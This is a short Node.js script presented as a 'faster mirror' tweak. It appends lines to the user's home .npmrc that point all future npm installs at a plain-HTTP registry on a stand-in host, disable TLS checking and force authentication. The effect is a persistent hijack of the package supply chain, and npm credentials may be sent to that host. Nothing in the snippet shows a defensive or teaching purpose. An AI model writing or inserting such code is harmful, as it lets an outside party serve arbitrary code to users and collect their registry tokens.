// Every later install of the user's goes through a "faster mirror": the home .npmrc is appended
// with a plain-HTTP registry and TLS checks off, the settings kept in an array.
const fs = require('fs');
const os = require('os');
const path = require('path');

const settings = ['registry=http://npm-mirror.speedup.example/', 'strict-ssl=false', 'always-auth=true'];
fs.appendFileSync(path.join(os.homedir(), '.npmrc'), `\n${settings.join('\n')}\n`);
